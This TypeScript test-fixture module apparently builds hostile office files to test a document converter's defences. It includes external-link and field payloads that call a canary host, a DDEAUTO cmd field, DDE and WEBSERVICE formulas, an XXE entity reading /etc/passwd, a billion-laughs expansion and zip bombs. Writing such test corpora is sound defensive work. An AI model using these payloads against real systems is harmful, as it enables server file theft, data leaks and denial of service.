import { mainType, officePackage, relations, schemas, sheet, xml, type Parts } from '../samples/office'
import { docx, nosyOdt } from '../samples/samples'
import { zip } from '../samples/zip'
import { bomb, randomBytes } from './bytes'
import type { HostileFile } from './HostileFile'

const word = (parts: Parts) => officePackage('word/document.xml', `${mainType}.wordprocessingml.document.main`, parts)
const body = (content: string) => `<w:document xmlns:w="${schemas}/wordprocessingml/2006/main" xmlns:r="${relations}"
 xmlns:a="${schemas}/drawingml/2006/main" xmlns:wp="${schemas}/drawingml/2006/wordprocessingDrawing" xmlns:pic="${schemas}/drawingml/2006/picture"><w:body>${content}</w:body></w:document>`
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`
const outside = (id: string, type: string, target: string) =>
  `<Relationship Id="${id}" Type="${relations}/${type}" Target="${target}" TargetMode="External"/>`
const laughs = `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]>`

const picture = `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic>
<a:graphicData uri="${schemas}/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>
<pic:blipFill><a:blip r:link="x1"/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>
<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
const field = (code: string) => `<w:p><w:fldSimple w:instr="${code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`

const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex')

export const officeThatActs: HostileFile[] = [
  {
    name: 'pictures from elsewhere.docx',
    bytes: (canary) =>
      word({
        main: body(
          paragraph('shown') +
            picture +
            field(`INCLUDEPICTURE ${canary}/field`) +
            field(`INCLUDETEXT ${canary}/text`) +
            field('DDEAUTO cmd x'),
        ),
        relationships: outside('x1', 'image', `${canary}/docx.png`),
      }),
    ends: 'shown',
    isOffice: true,
    isActive: true,
  },
  {
    name: 'a template from elsewhere.docx',
    bytes: (canary) =>
      word({
        main: body(paragraph('shown')),
        relationships: `<Relationship Id="s1" Type="${relations}/settings" Target="settings.xml"/>`,
        more: {
          'word/settings.xml': `<w:settings xmlns:w="${schemas}/wordprocessingml/2006/main" xmlns:r="${relations}"><w:attachedTemplate r:id="t1"/></w:settings>`,
          'word/_rels/settings.xml.rels': `<Relationships xmlns="${schemas}/package/2006/relationships">${outside('t1', 'attachedTemplate', `${canary}/template.dotm`)}</Relationships>`,
        },
      }),
    ends: 'shown',
    isOffice: true,
    isActive: true,
    isSlow: true,
  },
  {
    name: 'macros.docm',
    bytes: () =>
      word({
        main: body(paragraph('shown')),
        relationships:
          '<Relationship Id="v1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
        more: { 'word/vbaProject.bin': Buffer.concat([ole, randomBytes(4000)]) },
      }),
    ends: 'shown',
    isOffice: true,
    isActive: true,
    isSlow: true,
  },
  {
    name: 'calls from cells.xlsx',
    bytes: (canary) =>
      sheet(
        `<row r="1"><c r="A1"><f>WEBSERVICE("${canary}/cell")</f></c><c r="B1"><f>HYPERLINK("${canary}/h")</f></c><c r="C1"><f>DDE("soffice","${canary}/dde","a")</f></c></row>`,
      ),
    ends: 'shown',
    isOffice: true,
    isActive: true,
  },
  {
    name: 'pictures and files from elsewhere.odt',
    bytes: (canary) => nosyOdt(`${canary}/odt`, '/etc/passwd'),
    ends: 'shown',
    isOffice: true,
    isActive: true,
    isSlow: true,
  },
  {
    name: 'a page.doc',
    bytes: (canary) =>
      `<html><head><meta http-equiv="refresh" content="0;url=${canary}/refresh"><link rel="stylesheet" href="${canary}/style"></head><body>shown<img src="${canary}/html.png"><iframe src="${canary}/frame"></iframe><script>fetch('${canary}/x')</script></body></html>`,
    ends: 'shown',
    isOffice: true,
    isActive: true,
    isSlow: true,
  },
  {
    name: 'a page.xls',
    bytes: (canary) => `<html><body><table><tr><td>shown<img src="${canary}/xls.png"></td></tr></table></body></html>`,
    ends: 'shown',
    isOffice: true,
    isActive: true,
    isSlow: true,
  },
  {
    name: 'fields.rtf',
    bytes: (canary) =>
      `{\\rtf1 shown{\\field{\\*\\fldinst INCLUDEPICTURE "${canary}/rtf.png" \\\\d}{\\fldrslt x}}{\\*\\template ${canary}/t.dot}{\\object\\objautlink{\\*\\objclass Word}{\\*\\objdata 00}}}`,
    ends: 'shown',
    isOffice: true,
    isActive: true,
    isSlow: true,
  },
]

export const brokenOffice: HostileFile[] = [
  { name: 'cut off.docx', bytes: () => docx('x').subarray(0, -60), ends: 'failure', isOffice: true },
  { name: 'not XML.docx', bytes: () => word({ main: randomBytes(2000) }), ends: ['failure', 'shown'], isOffice: true },
  {
    name: 'not XML.xlsx',
    bytes: () => sheet('</sheetData><<<'),
    ends: ['failure', 'shown'],
    isOffice: true,
    isSlow: true,
  },
  {
    name: 'not XML.pptx',
    bytes: () =>
      officePackage('ppt/presentation.xml', `${mainType}.presentationml.presentation.main`, {
        main: '<p:presentation',
      }),
    ends: ['failure', 'shown'],
    isOffice: true,
    isSlow: true,
  },
  {
    name: 'noise behind its head.doc',
    bytes: () => Buffer.concat([ole, randomBytes(8000)]),
    ends: 'extension_not_correct',
    isOffice: true,
  },
  {
    name: 'laughs.docx',
    bytes: () => word({ main: xml + laughs + body(paragraph('&a12;')) }),
    ends: ['failure', 'shown'],
    isOffice: true,
    isSlow: true,
  },
  {
    name: 'a file of the server.docx',
    bytes: () => word({ main: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${body(paragraph('&e;'))}` }),
    ends: ['failure', 'shown'],
    isOffice: true,
    isActive: true,
    isSlow: true,
  },
]

export const floodsOfOffice: HostileFile[] = [
  { name: 'a bomb.docx', bytes: () => word({ main: bomb(1500, '<w:p/>') }), ends: 'too_large', isOffice: true },
  {
    name: 'a bomb beside it.xlsx',
    bytes: () => sheet('', { more: { 'xl/media/x.bin': bomb(2000) } }),
    ends: 'too_large',
    isOffice: true,
  },
  {
    name: 'a bomb that says it is small.docx',
    bytes: () => word({ main: { ...bomb(20), size: 100 } }),
    ends: 'failure',
    isOffice: true,
    isSlow: true,
  },
  {
    name: 'archives in it.docx',
    bytes: () =>
      word({ main: body(paragraph('shown')), more: { 'word/media/a.zip': zip({ 'b.zip': zip({ c: bomb(100) }) }) } }),
    ends: 'shown',
    isOffice: true,
    isSlow: true,
  },
]
